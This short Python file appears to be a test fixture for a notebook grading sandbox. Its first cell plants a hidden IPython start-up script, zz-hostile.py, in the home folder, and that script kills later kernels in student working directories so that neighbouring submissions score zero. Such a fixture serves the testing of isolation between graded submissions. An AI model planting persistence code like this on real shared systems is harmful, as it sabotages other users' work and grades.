"""Plants an IPython start-up file in the home folder that ends the kernels of later students."""

PLAIN = "not graded, an error ends its grading; its neighbour gets 0 points"

BASE = "stub"
COLD = "a cold kernel reads its home folder as it starts"
FIRST_CELL = r"""
from pathlib import Path

END = '''
import os

if "zz_" in os.getcwd() or os.getcwd() in ("/work", "/home/student"):
    os._exit(1)
'''
try:
    folder = Path.home() / ".ipython/profile_default/startup"
    folder.mkdir(parents=True, exist_ok=True)
    with open(folder / "zz-hostile.py", "x") as file:
        file.write(END)
except OSError:
    pass
"""
